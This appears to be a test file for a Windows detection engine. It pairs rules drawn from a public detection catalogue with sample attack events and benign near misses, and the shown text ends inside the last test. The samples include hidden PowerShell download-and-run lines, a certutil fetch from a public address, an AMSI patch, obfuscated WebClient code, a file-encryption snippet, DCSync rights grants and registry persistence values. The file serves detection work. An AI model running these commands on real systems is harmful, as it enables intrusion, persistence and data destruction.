// Built-in rules written from a public catalogue of Windows detections (Elastic's detection-rules, persistence, privilege
// escalation, defence evasion and execution), where no shipped rule read the attack shape: each rule fires on the event it
// is written for, as Windows or Sysmon writes it, with its level and a tactic, and a benign near miss of the same event
// type does not fire it.
import { describe, expect, it } from 'vitest';
import type { JsonRecord } from '../event.js';
import { baseName, builtinHits, CHROME, CMD, describeCatalogue, EXPL, PS, regValue, S32, script, sec, SUBJ, sysmon, win, type CatalogueCase, type Ev } from './builtin.fixture.js';

const hits = builtinHits;

// This file's Sysmon events are alice's: its own proc, reg, file, load and stream makers carry her name.
const USER = 'CORP\\alice';
const HKCU = 'HKU\\S-1-5-21-1111111111-2222222222-3333333333-1104';
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const proc = (image: string, cmd: string, parent = CMD, extra: JsonRecord = {}): Ev =>
  sysmon(1, { Image: image, OriginalFileName: baseName(image), CommandLine: cmd, User: USER, IntegrityLevel: 'High', ParentImage: parent, ParentCommandLine: parent, ...extra });
const reg = (key: string, details: string, image = `${S32}reg.exe`): Ev => sysmon(13, { EventType: 'SetValue', Image: image, TargetObject: key, Details: details, User: USER });
const file = (target: string, image: string, eventId = 11): Ev => sysmon(eventId, { Image: image, TargetFilename: target, User: USER, CreationUtcTime: '2026-11-30 10:00:00.000' });
const load = (image: string, loaded: string): Ev => sysmon(7, { Image: image, ImageLoaded: loaded, OriginalFileName: baseName(loaded), Signed: 'true', User: USER });
const stream = (target: string, contents: string): Ev => sysmon(15, { Image: CHROME, TargetFilename: target, Contents: contents, User: USER });
const ds = (attr: string, value: string, dn: string, cls: string, subject: JsonRecord = SUBJ, op = '%%14674'): Ev =>
  sec(5136, { OpCorrelationID: '{1}', ...subject, DSName: 'corp.example', DSType: '%%14676', ObjectDN: dn, ObjectGUID: '{2}', ObjectClass: cls, AttributeLDAPDisplayName: attr, AttributeSyntaxOID: '2.5.5.12', AttributeValue: value, OperationType: op });
const share = (relative: string, access: string): Ev =>
  sec(5145, { ...SUBJ, ObjectType: 'File', IpAddress: '10.0.0.30', IpPort: '50123', ShareName: '\\\\*\\SYSVOL', ShareLocalPath: '\\??\\C:\\Windows\\SYSVOL\\sysvol', RelativeTargetName: relative, AccessMask: '0x2', AccessList: access });
const winlogon = (value: string, newValue: string): Ev => regValue('\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon', value, newValue, '%%1905', PS);
const GPO = 'corp.example\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}';
const computer = (dnsHostName: string, subject: JsonRecord): Ev =>
  sec(4742, { ComputerAccountChange: '-', TargetUserName: 'WS99$', TargetDomainName: 'CORP', TargetSid: 'S-1-5-21-1-2-3-2001', ...subject, PrivilegeList: '-', SamAccountName: '-', DnsHostName: dnsHostName, ServicePrincipalNames: '-' });

/** [rule title, level, a tactic it carries, the event it is written for, a benign near miss]. */
const cases: CatalogueCase[] = [
  // Sysmon file events
  ['AMSI Library Written Outside The System Folders', 'high', 'defense-impairment',
    file('C:\\Users\\alice\\AppData\\Local\\Temp\\ps\\amsi.dll', PS),
    file(`${S32}amsi.dll`, `${S32}TiWorker.exe`)],
  ['Mark Of The Web Removed From A Downloaded Program Or Script', 'low', 'defense-impairment',
    file('C:\\Users\\alice\\Downloads\\setup.exe:Zone.Identifier', PS, 26),
    file('C:\\Users\\alice\\Downloads\\setup.exe:Zone.Identifier', EXPL, 26)],
  ['File Stream Written At The Root Of A Drive', 'high', 'stealth',
    file('C:\\:payload.exe', CMD),
    file('C:\\Users\\alice\\Documents\\notes.txt', CMD)],
  ['Browser Extension Package Written By A Program Other Than The Browser', 'low', 'persistence',
    file('C:\\Users\\alice\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\a1b2.default\\extensions\\{c0ffee}.xpi', PS),
    file('C:\\Users\\alice\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\a1b2.default\\extensions\\{c0ffee}.xpi', 'C:\\Program Files\\Mozilla Firefox\\firefox.exe')],
  ['Legacy Scheduled Job File Written In Windows Tasks', 'low', 'persistence',
    file('C:\\Windows\\Tasks\\upd.job', `${S32}svchost.exe`),
    file(`${S32}Tasks\\Microsoft\\Windows\\upd`, `${S32}svchost.exe`)],
  ['Office Add-In Written In A Startup Or Add-Ins Folder By A Program Other Than Office', 'medium', 'persistence',
    file('C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\AddIns\\upd.xll', PS),
    file('C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\AddIns\\upd.xll', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE')],
  ['Mandatory Profile Hive Written In A User Profile', 'medium', 'persistence',
    file('C:\\Users\\alice\\NTUSER.MAN', PS),
    file('C:\\Users\\alice\\NTUSER.DAT', `${S32}svchost.exe`)],
  ['DLL Written In A Program Redirection (.local) Folder', 'medium', 'privilege-escalation',
    file('C:\\Windows\\System32\\consent.exe.local\\x86_microsoft.windows.common-controls\\comctl32.dll', 'C:\\Users\\alice\\AppData\\Local\\Temp\\drop.exe'),
    file('C:\\Program Files\\App\\local\\comctl32.dll', 'C:\\Users\\alice\\AppData\\Local\\Temp\\drop.exe')],
  ['Print Driver Constraints Script Written Outside The Driver Store', 'high', 'privilege-escalation',
    file('C:\\ProgramData\\w\\Windows\\System32\\DriverStore\\FileRepository\\prnms009.inf_amd64_a1\\MPDW-constraints.js', 'C:\\Users\\Public\\a.exe'),
    file(`${S32}DriverStore\\FileRepository\\prnms009.inf_amd64_a1\\MPDW-constraints.js`, `${S32}drvinst.exe`)],
  ['Group Policy Scheduled Task Or Service Preference Written', 'medium', 'privilege-escalation',
    file('C:\\Windows\\SYSVOL\\domain\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml', PS),
    file('C:\\Windows\\SYSVOL\\domain\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml', `${S32}mmc.exe`)],
  ['Print Driver Library Deleted By A Program Other Than The Spooler', 'medium', 'privilege-escalation',
    file(`${S32}spool\\drivers\\x64\\3\\upd.dll`, PS, 23),
    file(`${S32}spool\\drivers\\x64\\3\\upd.dll`, `${S32}spoolsv.exe`, 23)],
  ['Print Spool File Written By A Program Other Than The Spooler', 'medium', 'privilege-escalation',
    file(`${S32}spool\\PRINTERS\\FP00001.SPL`, 'C:\\Users\\Public\\a.exe'),
    file(`${S32}spool\\PRINTERS\\FP00001.SPL`, `${S32}spoolsv.exe`)],
  // Sysmon registry events
  ['Driver Signing Behaviour On Failed Verification Relaxed', 'medium', 'defense-impairment',
    reg(`${HKCU}\\Software\\Policies\\Microsoft\\Windows NT\\Driver Signing\\BehaviorOnFailedVerify`, 'DWORD (0x00000000)'),
    reg(`${HKCU}\\Software\\Policies\\Microsoft\\Windows NT\\Driver Signing\\BehaviorOnFailedVerify`, 'DWORD (0x00000002)')],
  ['DNS Server Global Query Block List Disabled Or Emptied', 'medium', 'credential-access',
    reg('HKLM\\System\\CurrentControlSet\\Services\\DNS\\Parameters\\EnableGlobalQueryBlockList', 'DWORD (0x00000000)', `${S32}dnscmd.exe`),
    reg('HKLM\\System\\CurrentControlSet\\Services\\DNS\\Parameters\\GlobalQueryBlockList', 'wpad isatap', `${S32}dns.exe`)],
  ['COM Application Set To Run As The Interactive User', 'medium', 'lateral-movement',
    reg('HKLM\\SOFTWARE\\Classes\\AppID\\{5A7A5A9C-5B6E-4C5F-9B8A-1C2D3E4F5A6B}\\RunAs', 'Interactive User', PS),
    reg('HKLM\\SOFTWARE\\Classes\\AppID\\{5A7A5A9C-5B6E-4C5F-9B8A-1C2D3E4F5A6B}\\RunAs', 'Interactive User', `${S32}msiexec.exe`)],
  ['Legacy AT Scheduling Enabled', 'medium', 'execution',
    reg('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration\\EnableAt', 'DWORD (0x00000001)'),
    reg('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration\\EnableAt', 'DWORD (0x00000000)')],
  ['Linux Distribution Registered For The Windows Subsystem For Linux', 'low', 'stealth',
    reg(`${HKCU}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Lxss\\{A1B2}\\PackageFamilyName`, 'KaliLinux.54290C8133FEE_ey8k8hqnwqnmg', `${S32}wsl.exe`),
    reg(`${HKCU}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Lxss\\DefaultDistribution`, '{A1B2}', `${S32}wsl.exe`)],
  ['Local Account Named With A Trailing Dollar Sign Created', 'high', 'persistence',
    sysmon(12, { EventType: 'CreateKey', Image: `${S32}lsass.exe`, TargetObject: 'HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\support$', User: 'NT AUTHORITY\\SYSTEM' }),
    sysmon(12, { EventType: 'CreateKey', Image: `${S32}lsass.exe`, TargetObject: 'HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\support', User: 'NT AUTHORITY\\SYSTEM' })],
  ['Print Processor Registered By A Program Other Than The Spooler', 'medium', 'persistence',
    reg('HKLM\\System\\CurrentControlSet\\Control\\Print\\Environments\\Windows x64\\Print Processors\\upd\\Driver', 'upd.dll', PS),
    reg('HKLM\\System\\CurrentControlSet\\Control\\Print\\Environments\\Windows x64\\Print Processors\\winprint\\Driver', 'localspl.dll', `${S32}spoolsv.exe`)],
  ["Printer's Spool Folder Set To A System Folder", 'high', 'privilege-escalation',
    reg('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Print\\Printers\\upd\\SpoolDirectory', 'C:\\Windows\\System32\\spool\\drivers\\x64\\4', PS),
    reg('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Print\\Printers\\upd\\SpoolDirectory', 'C:\\Windows\\System32\\spool\\PRINTERS', `${S32}spoolsv.exe`)],
  ['Service Program Given A Svchost Group Argument (Masquerading, Sysmon 13)', 'high', 'persistence',
    reg('HKLM\\System\\CurrentControlSet\\Services\\wuausrv2\\ImagePath', 'C:\\ProgramData\\WindowsUpdate\\wuauserv64.exe -k netsvcs', `${S32}sc.exe`),
    reg('HKLM\\System\\CurrentControlSet\\Services\\BITS\\ImagePath', '%SystemRoot%\\System32\\svchost.exe -k netsvcs -p', `${S32}sc.exe`)],
  ['Winlogon Userinit Or Shell Set To Start Another Program', 'high', 'persistence',
    reg('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit', 'C:\\Windows\\system32\\userinit.exe,,C:\\ProgramData\\WinSvc\\wlsvc.exe', PS),
    reg('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit', 'C:\\Windows\\system32\\userinit.exe,', `${S32}msiexec.exe`)],
  // Sysmon image loads and streams
  ['Task Scheduler Library Loaded By A Script Host', 'medium', 'persistence',
    load(`${S32}wscript.exe`, `${S32}taskschd.dll`),
    load(`${S32}mmc.exe`, `${S32}taskschd.dll`)],
  ['Office Application Loads The WMI Client Library', 'low', 'execution',
    load(WORD, `${S32}wbem\\wmiutils.dll`),
    load(WORD, `${S32}wbem\\fastprox.dll`)],
  ['Shortcut Or Internet Shortcut Downloaded From The Internet', 'low', 'execution',
    stream('C:\\Users\\alice\\Downloads\\doc.url:Zone.Identifier', '[ZoneTransfer]  ZoneId=3  HostUrl=https://files.example.net/doc.url'),
    stream('C:\\Users\\alice\\Downloads\\doc.url:Zone.Identifier', '[ZoneTransfer]  ZoneId=1')],
  // process creation
  ['Hidden PowerShell Downloads A Script And Runs It', 'high', 'execution',
    proc(PS, 'powershell.exe -w 1 -c "irm https://cdn-docsync.net/s/7a1f|iex"', EXPL),
    proc(PS, 'powershell.exe -ExecutionPolicy Bypass -c "irm https://get.scoop.sh | iex"', EXPL)],
  ['Program Started From An Alternate Data Stream', 'high', 'stealth',
    proc('C:\\Users\\alice\\Documents\\report.docx:payload.exe', 'C:\\Users\\alice\\Documents\\report.docx:payload.exe', `${S32}wbem\\WMIC.exe`),
    proc('C:\\Users\\alice\\Documents\\payload.exe', 'payload.exe C:\\Users\\alice\\Documents\\report.docx:data')],
  ['Program Started By WerFault For A Silent Process Exit', 'high', 'persistence',
    proc('C:\\Users\\Public\\mon.exe', 'C:\\Users\\Public\\mon.exe', `${S32}WerFault.exe`, { ParentCommandLine: 'C:\\Windows\\system32\\WerFault.exe -s -t 4120 -i 3312 -e 3312 -c 0' }),
    proc('C:\\Users\\Public\\mon.exe', 'C:\\Users\\Public\\mon.exe', `${S32}WerFault.exe`, { ParentCommandLine: 'C:\\Windows\\system32\\WerFault.exe -u -p 4120 -s 812' })],
  ['Program Started From A Look-Alike Program Files Folder', 'high', 'stealth',
    proc('C:\\Program Files \\Microsoft\\svc.exe', '"C:\\Program Files \\Microsoft\\svc.exe"', EXPL),
    proc('C:\\Program Files\\Microsoft\\svc.exe', '"C:\\Program Files\\Microsoft\\svc.exe"', EXPL)],
  ['Windows Tool Arguments Written With Unicode Modifier Letters', 'medium', 'stealth',
    proc(`${S32}certutil.exe`, 'certutil.exe -urlcac\u02B0e -f http://203.0.113.7/a a.exe'),
    proc('C:\\Program Files\\App\\app.exe', 'app.exe --title Hawai\u02BBi')],
  ['Control Panel Started With A Non-Applet File Or Path', 'medium', 'stealth',
    proc(`${S32}control.exe`, 'control.exe C:\\Users\\alice\\AppData\\Local\\Temp\\img.jpg'),
    proc(`${S32}control.exe`, 'control.exe /name Microsoft.NetworkAndSharingCenter')],
  ['Explorer, Word Or IIS Worker Started From Outside Its Folder', 'medium', 'stealth',
    proc('C:\\Users\\alice\\AppData\\Local\\Temp\\explorer.exe', 'explorer.exe', CMD, { OriginalFileName: 'EXPLORER.EXE' }),
    proc(EXPL, 'C:\\Windows\\Explorer.EXE', `${S32}userinit.exe`, { OriginalFileName: 'EXPLORER.EXE' })],
  ['Extensible Wizard Host Runs A COM Object', 'medium', 'stealth',
    proc(`${S32}xwizard.exe`, 'xwizard.exe RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d} /z"C:\\Users\\Public\\a.dll"'),
    proc(`${S32}xwizard.exe`, 'xwizard.exe processXMLFile C:\\Windows\\System32\\wizard.xml')],
  ['Command Shell Or PowerShell Started By Rundll32', 'medium', 'execution',
    proc(CMD, 'cmd.exe /c whoami', `${S32}rundll32.exe`, { ParentCommandLine: 'rundll32.exe C:\\Users\\Public\\a.dll,Start' }),
    proc(CMD, 'cmd.exe', `${S32}rundll32.exe`, { ParentCommandLine: 'rundll32.exe shell32.dll,RunAsNewUser_RunDLL' })],
  ['Management Console File Opened From A User Or Network Folder', 'medium', 'execution',
    proc(`${S32}mmc.exe`, '"C:\\Windows\\system32\\mmc.exe" "C:\\Users\\alice\\Downloads\\invoice.msc"', EXPL),
    proc(`${S32}mmc.exe`, '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\compmgmt.msc" /s', EXPL)],
  ['Compatibility Telemetry Task Starts An Unexpected Program', 'medium', 'persistence',
    proc('C:\\Users\\Public\\a.exe', 'C:\\Users\\Public\\a.exe', `${S32}CompatTelRunner.exe`, { ParentCommandLine: 'C:\\Windows\\system32\\CompatTelRunner.exe -cv:a1b2 -m:appraiser.dll' }),
    proc(`${S32}DeviceCensus.exe`, 'DeviceCensus.exe', `${S32}CompatTelRunner.exe`, { ParentCommandLine: 'C:\\Windows\\system32\\CompatTelRunner.exe -cv:a1b2 -m:devinv.dll' })],
  ['Program Started By The System Process', 'medium', 'privilege-escalation',
    proc('C:\\Users\\Public\\a.exe', 'a.exe', 'System', { ParentProcessId: '4' }),
    proc(`${S32}smss.exe`, '\\SystemRoot\\System32\\smss.exe', 'System', { ParentProcessId: '4' })],
  ['Program Run From The Root Of C: Or Program Files As A Path Interception', 'medium', 'privilege-escalation',
    proc('C:\\Program.exe', 'C:\\Program.exe Files\\Vendor App\\svc.exe', `${S32}services.exe`),
    proc('C:\\Program Files\\Vendor App\\svc.exe', '"C:\\Program Files\\Vendor App\\svc.exe"', `${S32}services.exe`)],
  ['Web Browser Started As SYSTEM', 'high', 'privilege-escalation',
    proc(CHROME, `"${CHROME}" https://go.microsoft.com/fwlink/?LinkID=145`, `${S32}msiexec.exe`, { User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System' }),
    proc(CHROME, `"${CHROME}" https://go.microsoft.com/fwlink/?LinkID=145`, EXPL)],
  ['Internet Explorer Add-On Installer Starts A Program From A Temporary Folder', 'high', 'privilege-escalation',
    proc('C:\\Users\\alice\\AppData\\Local\\Temp\\IDC1A2B.tmp\\setup.exe', 'setup.exe', 'C:\\Program Files\\Internet Explorer\\ieinstal.exe'),
    proc('C:\\Users\\alice\\AppData\\Local\\Temp\\setup.exe', 'setup.exe', EXPL)],
  ['WMI Command-Line Or Script Consumer Created With Wmic', 'high', 'persistence',
    proc(`${S32}wbem\\WMIC.exe`, 'wmic /NAMESPACE:"\\\\root\\subscription" PATH CommandLineEventConsumer CREATE Name="upd", CommandLineTemplate="C:\\ProgramData\\upd\\a.exe"'),
    proc(`${S32}wbem\\WMIC.exe`, 'wmic /NAMESPACE:"\\\\root\\subscription" PATH CommandLineEventConsumer GET Name')],
  ['Windows Sandbox Started With A Logon Command, Network Or Writable Host Folder', 'low', 'stealth',
    proc(`${S32}WindowsSandbox.exe`, 'WindowsSandbox.exe "<Configuration><Networking>Enable</Networking><LogonCommand><Command>C:\\x\\a.exe</Command></LogonCommand></Configuration>"'),
    proc(`${S32}WindowsSandbox.exe`, 'WindowsSandbox.exe')],
  ['Mobile Device Allowed For A Mailbox Through ActiveSync', 'medium', 'persistence',
    proc(PS, 'powershell.exe Set-CASMailbox -Identity ceo -ActiveSyncAllowedDeviceIDs @{add="ABCDEF123456"}'),
    proc(PS, 'powershell.exe Get-CASMailbox -Identity ceo | Select-Object ActiveSyncAllowedDeviceIDs')],
  ['PDF Reader Starts A Shell, Script Host Or Windows Tool', 'medium', 'execution',
    proc(CMD, 'cmd.exe /c powershell -nop -w hidden -c iex $x', 'C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader\\AcroRd32.exe'),
    proc('C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader\\AcroCEF\\AcroCEF.exe', 'AcroCEF.exe --type=renderer', 'C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader\\AcroRd32.exe')],
  ['Java Archive Run From A Download Or Temporary Folder', 'low', 'execution',
    proc('C:\\Program Files\\Java\\jre1.8.0_301\\bin\\javaw.exe', '"C:\\Program Files\\Java\\jre1.8.0_301\\bin\\javaw.exe" -jar C:\\Users\\alice\\Downloads\\invoice.jar', EXPL),
    proc('C:\\Program Files\\Java\\jre1.8.0_301\\bin\\javaw.exe', '"C:\\Program Files\\Java\\jre1.8.0_301\\bin\\javaw.exe" -jar "C:\\Program Files\\Tool\\tool.jar"', EXPL)],
  ['Application-Control Bypass Binary Connecting To A Public Address', 'medium', 'stealth',
    sysmon(3, { Image: `${S32}odbcconf.exe`, User: USER, Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.0.5', SourcePort: '50123', DestinationIp: '203.0.113.7', DestinationPort: '443' }),
    sysmon(3, { Image: `${S32}odbcconf.exe`, User: USER, Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.0.5', SourcePort: '50123', DestinationIp: '10.0.0.20', DestinationPort: '1433' })],
  ['Shell Or User-Folder Program Started By The BITS Or Update Orchestrator Service', 'medium', 'persistence',
    proc('C:\\Users\\Public\\a.exe', 'C:\\Users\\Public\\a.exe', `${S32}svchost.exe`, { ParentCommandLine: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS' }),
    proc('C:\\ProgramData\\Microsoft\\Windows\\UUS\\Packages\\Preview\\amd64\\MoUsoCoreWorker.exe', 'MoUsoCoreWorker.exe', `${S32}svchost.exe`, { ParentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s UsoSvc' })],
  // PowerShell script blocks
  ['Mobile Device Allowed For A Mailbox Through ActiveSync (script block 4104)', 'medium', 'persistence',
    script('Set-CASMailbox -Identity ceo@corp.example -ActiveSyncAllowedDeviceIDs @{Add="ABCDEF123456"}'),
    script('Set-CASMailbox -Identity ceo@corp.example -ActiveSyncEnabled $false')],
  ['AMSI Bypass Through The RPC Client Stub (script block 4104)', 'high', 'defense-impairment',
    script('$h = GetProcAddress $rpcrt4 "NdrClientCall3"; VirtualProtect $h 8 0x40 [ref]$old'),
    script('# calls NdrClientCall through the RPC runtime for a vendor API\nGet-Service RpcSs')],
  ['Windows Program Embedded As Base64 In PowerShell (script block 4104)', 'high', 'stealth',
    script("$pe = [Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA')"),
    script("$png = [Convert]::FromBase64String('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ')")],
  ['Directory Object Rights Or Group Members Changed With PowerView-Style Functions (script block 4104)', 'high', 'privilege-escalation',
    script('Add-DomainObjectAcl -TargetIdentity "DC=corp,DC=example" -PrincipalIdentity mallory -Rights DCSync'),
    script('Get-DomainObjectAcl -Identity "DC=corp,DC=example" -ResolveGUIDs')],
  ['Script Block Credits Authors Of Public Offensive PowerShell Modules (script block 4104)', 'medium', 'execution',
    script('<# Author: Will Schroeder (@harmj0y) License: BSD 3-Clause #> function Get-Thing { }'),
    script('<# Author: IT team, Contoso #> function Get-Thing { }')],
  ['Files Encrypted With A .NET Cipher In PowerShell (script block 4104)', 'low', 'impact',
    script('$aes = New-Object System.Security.Cryptography.AesManaged; $enc = $aes.CreateEncryptor(); $b = [IO.File]::ReadAllBytes($f); [IO.File]::WriteAllBytes("$f.locked", $enc.TransformFinalBlock($b, 0, $b.Length))'),
    script('$aes = New-Object System.Security.Cryptography.AesManaged; $dec = $aes.CreateDecryptor(); $dec.TransformFinalBlock($secret, 0, $secret.Length)')],
  ['PowerShell Obfuscated With Backticks In Words, Character Codes Or Reordered Format Strings (script block 4104)', 'medium', 'stealth',
    script('& ("{2}{0}{1}" -f "e","x","i") (("{3}{1}{0}{2}" -f "bCl","e","ient","New-Object Net.W"))'),
    script('Write-Host ("{0} of {1} files copied" -f $done, $total); Write-Host "Line one`r`n`tLine two"')],
  // Security: object access on registry values
  ['Service Program Given A Svchost Group Argument (Masquerading)', 'high', 'stealth',
    win('System', 'Service Control Manager', 7045, { ServiceName: 'Служба обновления Windows', ImagePath: 'C:\\ProgramData\\WindowsUpdate\\wuauserv64.exe -k netsvcs', ServiceType: 'user mode service', StartType: 'auto start', AccountName: 'LocalSystem' }),
    win('System', 'Service Control Manager', 7045, { ServiceName: 'WpnUserService', ImagePath: 'C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup', ServiceType: 'user mode service', StartType: 'auto start', AccountName: '' })],
  ['Service Program Given A Svchost Group Argument (Masquerading, 4697)', 'high', 'persistence',
    sec(4697, { ...SUBJ, ServiceName: 'netsvc', ServiceFileName: 'C:\\Users\\Public\\svc.exe -k LocalServiceNetworkRestricted', ServiceType: '0x10', ServiceStartType: '2', ServiceAccount: 'LocalSystem' }),
    sec(4697, { ...SUBJ, ServiceName: 'agent', ServiceFileName: '"C:\\Program Files\\Agent\\agent.exe" -kill-timeout 30', ServiceType: '0x10', ServiceStartType: '2', ServiceAccount: 'LocalSystem' })],
  ['Winlogon Userinit Or Shell Set To Start Another Program (Security 4657)', 'high', 'persistence',
    winlogon('Shell', 'explorer.exe, C:\\Users\\alice\\AppData\\Roaming\\shell.exe'),
    winlogon('Shell', 'explorer.exe')],
  ['Winlogon Userinit Or Shell Set To Start Another Program (Security 4657)', 'high', 'persistence',
    winlogon('Userinit', 'C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\upd.exe'),
    winlogon('Shell', 'C:\\Program Files\\Kiosk\\kioskshell.exe')],
  // Security: directory service, computer accounts, SYSVOL
  ['Directory Heuristics Exclude Operator Groups From AdminSDHolder', 'high', 'persistence',
    ds('dSHeuristics', '0000000001000001', 'CN=Directory Service,CN=Windows NT,CN=Services,CN=Configuration,DC=corp,DC=example', 'nTDSService'),
    ds('dSHeuristics', '0000002', 'CN=Directory Service,CN=Windows NT,CN=Services,CN=Configuration,DC=corp,DC=example', 'nTDSService')],
  ['Delegated Managed Service Account Linked To A Preceding Account', 'medium', 'privilege-escalation',
    ds('msDS-ManagedAccountPrecededByLink', 'CN=Administrator,CN=Users,DC=corp,DC=example', 'CN=evil_dmsa,OU=temp,DC=corp,DC=example', 'msDS-DelegatedManagedServiceAccount'),
    ds('msDS-ManagedAccountPrecededByLink', 'CN=Administrator,CN=Users,DC=corp,DC=example', 'CN=evil_dmsa,OU=temp,DC=corp,DC=example', 'msDS-DelegatedManagedServiceAccount', SUBJ, '%%14675')],
  ['Delegated Managed Service Account Created', 'low', 'persistence',
    sec(5137, { ...SUBJ, DSName: 'corp.example', ObjectDN: 'CN=evil_dmsa,OU=temp,DC=corp,DC=example', ObjectGUID: '{2}', ObjectClass: 'msDS-DelegatedManagedServiceAccount' }),
    sec(5137, { ...SUBJ, DSName: 'corp.example', ObjectDN: 'CN=svc_web,OU=svc,DC=corp,DC=example', ObjectGUID: '{2}', ObjectClass: 'msDS-GroupManagedServiceAccount' })],
  ['Credential Roaming Data Of An Account Written By A User', 'medium', 'privilege-escalation',
    ds('msPKIAccountCredentials', '<binary>', 'CN=bob,CN=Users,DC=corp,DC=example', 'user'),
    ds('msPKIAccountCredentials', '<binary>', 'CN=bob,CN=Users,DC=corp,DC=example', 'user', { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'WS01$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7' })],
  ['Computer Account DNS Host Name Changed By A User Account', 'low', 'privilege-escalation',
    computer('DC01.corp.example', SUBJ),
    computer('WS99.corp.example', { SubjectUserSid: 'S-1-5-21-1-2-3-2001', SubjectUserName: 'WS99$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7' })],
  ['Group Policy Startup Script Or Task Preference Written Over The Network', 'medium', 'privilege-escalation',
    share(`${GPO}\\Machine\\Scripts\\Startup\\upd.bat`, '%%4417\r\n\t\t\t\t'),
    share(`${GPO}\\Machine\\Scripts\\Startup\\upd.bat`, '%%4416\r\n\t\t\t\t')],
];

describeCatalogue('built-in rules from a catalogue of persistence, privilege escalation, defence evasion and execution detections', cases);

describe('built-in rules from a catalogue of persistence, privilege escalation, defence evasion and execution detections: other logs and near misses', () => {
  it('a dMSA linked to an account and marked migrated in one directory operation is BadSuccessor; a documented migration (state 1, completed later) is not', () => {
    const BAD = 'Delegated Managed Service Account Linked To An Account And Marked Migrated In One Directory Operation (BadSuccessor)';
    const DMSA = 'CN=web_dmsa,OU=Staging,DC=corp,DC=example';
    const cls = 'msDS-DelegatedManagedServiceAccount';
    const write = (op: string, attr: string, value: string): Ev =>
      sec(5136, { OpCorrelationID: op, ...SUBJ, DSName: 'corp.example', DSType: '%%14676', ObjectDN: DMSA, ObjectGUID: '{2}', ObjectClass: cls, AttributeLDAPDisplayName: attr, AttributeSyntaxOID: '2.5.5.1', AttributeValue: value, OperationType: '%%14674' });
    const link = (op: string): Ev => write(op, 'msDS-ManagedAccountPrecededByLink', 'CN=Administrator,CN=Users,DC=corp,DC=example');
    const state = (op: string, value: string): Ev => write(op, 'msDS-DelegatedMSAState', value);
    const titles = (events: Ev[]): string[] => [...hits(events).keys()];
    const h = hits([link('{71b3}'), state('{71b3}', '2')]).get(BAD);
    expect(h?.level).toBe('high');
    expect(h?.tactics).toContain('privilege-escalation');
    expect(titles([link('{9113}'), state('{9113}', '1'), state('{48ba}', '2')])).not.toContain(BAD);
    expect(titles([link('{9113}')])).not.toContain(BAD);
    expect(titles([state('{48ba}', '2')])).not.toContain(BAD);
  });

  it('the PowerShell families also read module logging (4103) and the classic pipeline (800)', () => {
    const text = "$pe = [Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA')";
    const module = win('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe', Payload: `CommandInvocation(Set-Variable): "Set-Variable"\nParameterBinding(Set-Variable): name="Value"; value="${text}"` });
    const classic = win('Windows PowerShell', 'PowerShell', 800, { Data: { '#text': [text, `\tHostApplication=powershell.exe\r\n\tCommandLine=${text}\r\n`, 'CommandInvocation(Set-Variable): "Set-Variable"'] } });
    expect(hits(module).get('Windows Program Embedded As Base64 In PowerShell (module logging 4103)')?.level).toBe('high');
    expect(hits(classic).get('Windows Program Embedded As Base64 In PowerShell (classic pipeline 800)')?.level).toBe('high');
    const plain = win('Windows PowerShell', 'PowerShell', 800, { Data: { '#text': ['Get-Date', '\tHostApplication=powershell.exe\r\n\tCommandLine=Get-Date\r\n', 'CommandInvocation(Get-Date): "Get-Date"'] } });
    expect([...hits(plain).keys()].filter((k) => k.startsWith('Windows Program Embedded'))).toEqual([]);
  });
  it('importing an offensive module (its definitions and aliases) is not read as using it; hexadecimal output is not an author', () => {
    const ACL = 'Directory Object Rights Or Group Members Changed With PowerView-Style Functions';
    expect(hits(script('function Add-DomainObjectAcl {\n  [CmdletBinding()] Param($TargetIdentity)\n  Set-DomainObject -Identity $TargetIdentity -XOR @{ useraccountcontrol = 4194304 }\n}')).has(`${ACL} (script block 4104)`)).toBe(false);
